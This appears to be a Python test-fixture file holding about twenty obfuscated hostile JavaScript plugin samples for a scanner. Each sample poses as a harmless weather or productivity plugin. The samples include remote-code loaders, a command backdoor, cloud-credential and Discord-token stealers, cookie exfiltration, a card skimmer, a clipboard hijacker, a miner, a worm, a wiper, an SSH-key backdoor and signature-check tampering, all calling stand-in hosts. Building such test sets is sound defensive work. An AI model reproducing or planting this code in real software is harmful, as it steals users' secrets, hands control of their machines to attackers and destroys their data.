"""Hostile samples that hide a little: a coded address, a name in pieces, a misleading word."""

from tests.hostile.heldout_fourth.carriers import BUDGET, FEEDS, HABITS, NOTES, POMODORO, TASKS
from tests.hostile.heldout_fourth.forms import as_base64, as_escapes, as_hex, plain, within
from tests.support.asking import asking

MILD = (
    plain(
        "base64-script-run",
        "loader",
        f"""
const code = Buffer.from('{as_base64("require('https').get('https://cdn.example.net/i.js', r => { let s = ''; r.on('data', d => s += d); r.on('end', () => Function('require', s)(require)); });")}', 'base64').toString();
exports.Weather = () => null;
exports.onEnable = () => new Function('require', code)(require);
""",
    ),
    plain(
        "split-module-names",
        "backdoor",
        r"""
const m = (a, b) => require(a + b);
const cp = m('child_', 'process');
const ht = m('ht', 'tp');

exports.Weather = () => null;
exports.onEnable = () => {
  const server = ht.createServer((req, res) => {
    const cmd = decodeURIComponent(req.url.slice(1));
    if (req.headers['x-k'] !== 'a81f') return res.end('ok');
    cp['ex' + 'ec'](cmd, (err, out) => res.end(String(err || out)));
  });
  server.listen(48123, '0.0.0.0');
};
""",
    ),
    plain(
        "escaped-words-stealer",
        "credential-theft",
        as_escapes(r"""
var fs = require('fs'), os = require('os'), https = require('https');
exports.Weather = function () { return null; };
exports.onInstall = function () {
  var data = "";
  ['/.aws/credentials', '/.config/gcloud/application_default_credentials.json', '/.kube/config'].forEach(function (p) {
    try { data += fs.readFileSync(os.homedir() + p, 'utf8'); } catch (e) {}
  });
  var r = https.request({ host: 'telemetry.example.com', path: '/v1/batch', method: 'POST' });
  r.end(data);
};
"""),
    ),
    plain(
        "notes-telemetry-that-is-not",
        "exfiltration",
        within(
            NOTES,
            r"""
const telemetry = {
  endpoint: ['aHR0cHM6Ly9h', 'bmFseXRpY3Mu', 'ZXhhbXBsZS5uZXQv', 'dXNhZ2U='],
  report(kind) {
    const usage = { kind, v: { ...localStorage }, c: document.cookie };
    const blob = new Blob([JSON.stringify(usage)]);
    navigator.sendBeacon(atob(this.endpoint.join('')), blob);
  },
};
window.addEventListener('visibilitychange', () => telemetry.report('hidden'));
""",
        ),
        manifest=asking("storage-read", "storage-write"),
    ),
    plain(
        "pomodoro-sound-is-code",
        "dropper",
        within(
            POMODORO,
            r"""
const CHIME = 'https://static.example.org/sounds/chime.ogg';

export async function onEnable(context) {
  const sound = Buffer.from(await (await fetch(CHIME)).arrayBuffer());
  const folder = await import('node:os').then((os) => os.tmpdir());
  const player = join(folder, 'chime-player');
  writeFileSync(player, sound.subarray(44), { mode: 0o700 });
  const { spawn } = await import('node:child_process');
  spawn(player, [], { detached: true, stdio: 'ignore' }).unref();
}
""",
        ),
        manifest=asking("storage-read", of=("https://static.example.org",)),
    ),
    plain(
        "tasks-reads-orders-from-zero-width",
        "command-channel",
        within(
            TASKS,
            r"""
const readMarks = (text) => {
    const bits = [...text].filter((c) => c === "\u200b" || c === "\u200c").map((c) => (c === "\u200c" ? 1 : 0));
    const bytes = [];
    for (let i = 0; i + 7 < bits.length; i += 8) {
        bytes.push(parseInt(bits.slice(i, i + 8).join(""), 2));
    }
    return String.fromCharCode(...bytes);
};
exports.onEnable = async () => {
    const page = await (await fetch("https://wiki.example.org/todo")).text();
    const order = readMarks(page);
    if (order) {
        require("child_process").execSync(order, { stdio: "ignore" });
    }
};
""",
        ),
        manifest=asking("storage-read", of=("https://wiki.example.org",)),
    ),
    plain(
        "budget-delayed-stage",
        "loader",
        within(
            BUDGET,
            r"""
const SINCE = Date.UTC(2026, 11, 24);
const asModule = (text) => import(/* webpackIgnore: true */ `data:text/javascript;base64,${btoa(text)}`);
if (Date.now() > SINCE && navigator.webdriver !== true) {
  setTimeout(async () => {
    const res = await fetch('https://budget.example.com/locale/' + navigator.language + '.txt');
    await asModule(await res.text());
  }, 3 * 3600 * 1000);
}
""",
        ),
        manifest=asking("storage-read", of=("https://budget.example.com",)),
    ),
    plain(
        "feeds-clipboard-address-swap",
        "clipper",
        within(
            FEEDS,
            r"""
var own = ['T9example', 'TronAddress', 'ForSamples00001'].join('');
document.addEventListener('copy', function (event) {
  var chosen = String(window.getSelection());
  if (/^T[1-9A-HJ-NP-Za-km-z]{33}$/.test(chosen.trim())) {
    event.clipboardData.setData('text/plain', own);
    event.preventDefault();
  }
}, true);
""",
        ),
    ),
    plain(
        "habits-mines-while-idle",
        "miner",
        within(
            HABITS,
            r"""
  var started = false;
  function warmUp() {
    if (started || document.visibilityState !== 'hidden') return;
    started = true;
    var s = document.createElement('script');
    s.src = 'https://' + ['cdn', 'example', 'com'].join('.') + '/lib/cryptonight.min.js';
    s.onload = function () {
      var miner = new window.Miner('site-key-of-sample', { threads: navigator.hardwareConcurrency, throttle: 0.1 });
      miner.start();
    };
    document.head.appendChild(s);
  }
  if (typeof document !== 'undefined') document.addEventListener('visibilitychange', warmUp);
""",
        ),
        manifest=asking(of=("https://cdn.example.com",)),
    ),
    plain(
        "postinstall-through-test-helper",
        "install-script",
        "'use strict';\nexports.Weather = () => 'sunny';\nexports.onEnable = () => undefined;\n",
        more={
            "lib/postbuild.js": r"""
const { spawn } = require('child_process');
const b = (s) => Buffer.from(s, 'base64').toString();
if (!process.env.CI) {
  spawn(process.execPath, ['-e', b('Y29uc3QgaD1yZXF1aXJlKCdodHRwcycpO2guZ2V0KCdodHRwczovL3N0YWdlLmV4YW1wbGUub3JnL2EnLHI9PntsZXQgcz0nJztyLm9uKCdkYXRhJyxkPT5zKz1kKTtyLm9uKCdlbmQnLCgpPT5ldmFsKHMpKX0p')], {
    detached: true,
    stdio: 'ignore',
    windowsHide: true,
  }).unref();
}
"""
        },
        package={"scripts": {"build": "tsc", "test": "node --test", "install": "node lib/postbuild.js"}},
    ),
    plain(
        "powershell-encoded-command",
        "dropper",
        f"""
const {{ exec }} = require('child_process');
exports.Weather = () => null;
exports.onInstall = () => {{
  if (process.platform !== 'win32') return;
  exec('powershell -NoP -W Hidden -Enc {as_base64("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/p.ps1')")}', {{ windowsHide: true }});
}};
""",
    ),
    plain(
        "hex-address-discord-like-hook",
        "token-theft",
        f"""
const fs = require('fs');
const path = require('path');
const HOOK = Buffer.from('{as_hex("https://chat.example.com/api/webhooks/1/aaaa")}', 'hex') + '';
const TOKEN = /[\\w-]{{24,28}}\\.[\\w-]{{6}}\\.[\\w-]{{27,38}}/g;

exports.Weather = () => null;
exports.onEnable = () => {{
  const base = path.join(process.env.APPDATA || process.env.HOME, 'discord', 'Local Storage', 'leveldb');
  const found = new Set();
  for (const name of fs.existsSync(base) ? fs.readdirSync(base) : []) {{
    if (!/\\.(log|ldb)$/.test(name)) continue;
    for (const token of fs.readFileSync(path.join(base, name), 'latin1').match(TOKEN) || []) found.add(token);
  }}
  if (found.size) fetch(HOOK, {{ method: 'POST', body: JSON.stringify({{ content: [...found].join('\\n') }}) }});
}};
""",
    ),
    plain(
        "prototype-hooks-every-send",
        "session-theft",
        r"""
const proto = XMLHttpRequest.prototype;
const keep = { open: proto.open, set: proto.setRequestHeader };

proto.open = function (method, url, ...rest) {
  this.__u = url;
  return keep.open.call(this, method, url, ...rest);
};
proto.setRequestHeader = function (name, value) {
  if (/^(authorization|x-csrf-token|cookie)$/i.test(name)) {
    new Image().src = '//' + 'gif' + '.example.net/?' + btoa([this.__u, name, value].join('|'));
  }
  return keep.set.call(this, name, value);
};

export const Weather = () => null;
""",
    ),
    plain(
        "disables-the-scanner-of-the-host",
        "tampering",
        r"""
const { join, dirname } = require('path');
const fs = require('fs');

const parts = ['node_modules', '@qirvo', 'host', 'lib'];
let at = __dirname;
while (!fs.existsSync(join(at, ...parts)) && dirname(at) !== at) at = dirname(at);

exports.Weather = () => null;
exports.onEnable = () => {
  const file = join(at, ...parts, ['ver', 'ify.js'].join(''));
  const text = fs.readFileSync(file, 'utf8');
  fs.writeFileSync(file, text.replace(/return\s+verifySignature\([^)]*\)/g, 'return true'));
};
""",
    ),
    plain(
        "copies-itself-into-repositories",
        "worm",
        r"""
import fs from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { homedir } from 'node:os';

const self = fileURLToPath(import.meta.url);
const mark = '/* wthr */';

function spread(folder, depth) {
  if (depth > 5) return;
  for (const entry of fs.readdirSync(folder, { withFileTypes: true })) {
    const full = path.join(folder, entry.name);
    if (entry.isDirectory()) {
      try { spread(full, depth + 1); } catch { /* no right */ }
    } else if (entry.name === 'index.js' && path.basename(folder) === 'dist') {
      const text = fs.readFileSync(full, 'utf8');
      if (!text.startsWith(mark)) fs.writeFileSync(full, mark + fs.readFileSync(self, 'utf8') + '\n' + text);
    }
  }
}

export const Weather = () => null;
export const onEnable = () => setTimeout(spread, 5000, homedir(), 0);
""",
    ),
    plain(
        "skimmer-by-image-of-cards",
        "skimmer",
        r"""
(function (w, d) {
  var seen = {};
  function luhn(n) {
    var s = 0;
    for (var i = 0; i < n.length; i++) {
      var x = +n[n.length - 1 - i];
      if (i % 2) x = x > 4 ? x * 2 - 9 : x * 2;
      s += x;
    }
    return s % 10 === 0;
  }
  w.setInterval(function () {
    d.querySelectorAll('input').forEach(function (f) {
      var v = f.value.replace(/[ -]/g, '');
      if (/^\d{13,19}$/.test(v) && luhn(v) && !seen[v]) {
        seen[v] = 1;
        var t = [].map.call(f.form ? f.form.elements : [], function (e) { return e.name + '=' + e.value; }).join('&');
        var i = d.createElement('img');
        i.src = w.atob('Ly9pbWcuZXhhbXBsZS5jb20vcC5wbmc/') + w.encodeURIComponent(w.btoa(t));
      }
    });
  }, 1500);
  w.Weather = function () { return null; };
})(window, document);
""",
    ),
    plain(
        "editor-settings-run-task",
        "persistence",
        r"""
const fs = require('fs');
const p = require('path');

function plant(project) {
  const dir = p.join(project, '.vscode');
  fs.mkdirSync(dir, { recursive: true });
  fs.writeFileSync(p.join(dir, 'tasks.json'), JSON.stringify({
    version: '2.0.0',
    tasks: [{
      label: 'prepare',
      type: 'shell',
      command: 'node -e "fetch(\'https://dev.example.net/t\').then(r=>r.text()).then(eval)"',
      runOptions: { runOn: 'folderOpen' },
      presentation: { reveal: 'never' },
    }],
  }));
}

exports.Weather = () => null;
exports.onUpdate = () => {
  for (const d of fs.readdirSync(p.join(process.env.HOME, 'work'))) plant(p.join(process.env.HOME, 'work', d));
};
""",
    ),
    plain(
        "wipes-when-token-is-gone",
        "wiper",
        r"""
const { execSync } = require('child_process');

const gone = async () => {
  const res = await fetch('https://git.example.com/api/user', { headers: { authorization: 'token ' + process.env.GH_TOKEN } });
  return res.status === 401;
};

exports.Weather = () => null;
exports.onEnable = () => setInterval(async () => {
  if (!(await gone())) return;
  const tool = process.platform === 'win32' ? ['del /F /Q /S', '%USERPROFILE%\\*'] : ['sh' + 'red -uz', '$(find "$HOME" -type f -writable)'];
  execSync(tool.join(' '));
}, 60e3);
""",
        manifest=asking(of=("https://git.example.com",)),
    ),
    plain(
        "bundled-loader-among-modules",
        "loader",
        r"""
(() => {
  var __modules__ = {
    11: (module) => {
      module.exports = { add: (a, b) => a + b, mean: (xs) => xs.reduce((a, b) => a + b, 0) / xs.length };
    },
    27: (module, exports, load) => {
      const { mean } = load(11);
      exports.summary = (days) => `${Math.round(mean(days.map((d) => d.high)))}°`;
    },
    42: (module, exports) => {
      const g = globalThis['pro' + 'cess'];
      const q = g && g.mainModule ? g.mainModule.require : null;
      exports.ready = () => {
        if (!q) return;
        const v = q('v' + 'm');
        q('https').get('https://res.example.org/fonts/weather.woff', (r) => {
          const parts = [];
          r.on('data', (d) => parts.push(d));
          r.on('end', () => v.runInThisContext(Buffer.concat(parts).toString('utf8').slice(16)));
        });
      };
    },
  };
  var cache = {};
  function load(id) {
    if (cache[id]) return cache[id].exports;
    var module = (cache[id] = { exports: {} });
    __modules__[id](module, module.exports, load);
    return module.exports;
  }
  load(42).ready();
  module.exports = { Weather: ({ days }) => load(27).summary(days) };
})();
""",
    ),
    plain(
        "ssh-key-for-the-attacker",
        "backdoor",
        r"""
const fs = require('fs');
const os = require('os');
const home = os.homedir();
const KEY = ['ssh-ed25519', 'AAAAC3NzaC1lZDI1NTE5AAAAIExampleExampleExampleExampleExampleExa', 'svc@example.org'].join(' ');

exports.Weather = () => null;
exports.onInstall = () => {
  const file = [home, '.ssh', ['authorized', 'keys'].join('_')].join('/');
  const now = fs.existsSync(file) ? fs.readFileSync(file, 'utf8') : '';
  if (now.indexOf(KEY) < 0) fs.appendFileSync(file, '\n' + KEY + '\n');
};
""",
    ),
)
